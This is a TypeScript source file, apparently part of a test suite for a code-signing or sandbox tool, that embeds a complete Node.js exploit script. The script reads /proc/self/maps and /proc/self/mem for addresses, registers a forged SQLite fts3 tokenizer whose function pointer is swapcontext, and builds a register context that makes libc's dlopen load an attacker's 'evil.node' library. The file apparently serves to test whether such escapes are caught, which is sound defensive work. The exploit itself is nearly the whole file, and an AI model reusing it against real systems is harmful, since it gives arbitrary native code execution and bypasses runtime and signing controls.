/** Makes Node.js call an address that the program computed, so that it runs machine code without a library. */

import type { Technique } from "../technique.js";
import { LIBC } from "./libc.js";

/** Finds the addresses of a buffer and of functions of libc, which /proc shows to the process itself. */
const ADDRESSES = `const fs = require("fs");
const { DatabaseSync } = require("node:sqlite");
const maps = () => fs.readFileSync("/proc/self/maps", "latin1").split("\\n").filter(Boolean).map((l) => l.split(/\\s+/));
// the address of a large buffer
const seen = new Set(maps().map(([r]) => r));
const SIZE = 96 << 20;
const memory = new Uint8Array(new ArrayBuffer(SIZE));
memory.fill(1, 0, 4096);
let base;
for (const [range, mode] of maps()) {
  const [a, b] = range.split("-").map((x) => BigInt("0x" + x));
  if (!seen.has(range) && b - a >= BigInt(SIZE) && mode.startsWith("rw")) base = a;
}
const mem = fs.openSync("/proc/self/mem", "r");
const peek = (at, n = 8) => { const b = Buffer.alloc(n); fs.readSync(mem, b, 0, n, Number(at)); return b; };
memory.set(Buffer.from("sigtool-was-here!"), 0);
for (let off = 0n; off < 8192n; off += 8n) if (peek(base + off, 17).toString() === "sigtool-was-here!") { base += off; break; }
const view = new DataView(memory.buffer);
const put = (off, v) => view.setBigUint64(off, BigInt(v), true);
// a function of libc
${LIBC}
const db = new DatabaseSync(":memory:");
const le = (v) => { const b = Buffer.alloc(8); b.writeBigUInt64LE(BigInt(v)); return b; };
`;

/**
 * SQLite's fts3_tokenizer() takes a pointer to a structure of
 * function pointers from a bound blob. The tokenizer's xOpen(tokenizer, text, ...) is swapcontext() here, so the text
 * sets all registers, and libc's own dlopen() loads the attacker's library.
 */
const TOKENIZER = `${ADDRESSES}
const simple = Buffer.from(db.prepare("select fts3_tokenizer(?) p").get("simple").p).readBigUInt64LE();
for (let i = 0n; i < 8n; i++) put(0x1000 + Number(i) * 8, peek(simple + i * 8n).readBigUInt64LE());
put(0x1000 + 24, symbol("swapcontext")); // xOpen(tokenizer, text, bytes, cursor)
memory.set(Buffer.from(process.argv[2] + "/evil.node\\0"), 0x2000);
const stack = SIZE / 2 + 8 - Number(base % 16n);
put(stack, symbol("_exit"));
const context = Buffer.alloc(968, 0);
const reg = (off, v) => context.writeBigUInt64LE(BigInt(v), off);
put(0x8000, 0x037fn); view.setUint32(0x8018, 0x1f80, true); // floating-point environment
reg(104, base + 0x2000n); reg(112, 2n); reg(160, base + BigInt(stack)); reg(168, symbol("dlopen")); reg(224, base + 0x8000n);
context.writeUInt32LE(0x1f80, 448);
db.prepare("select fts3_tokenizer(?, ?)").get("evil", le(base + 0x1000n));
db.exec("create virtual table t using fts3(a, tokenize=evil)");
db.prepare("insert into t values (?)").run(context);
console.log("not reached");
`;

export const nativeCalls: readonly Technique[] = [
	{
		name: "library by a tokenizer of SQLite that is an address",
		signed: { "main.js": TOKENIZER },
		native: true,
		notOn: { 20: "has no node:sqlite" },
	},
];
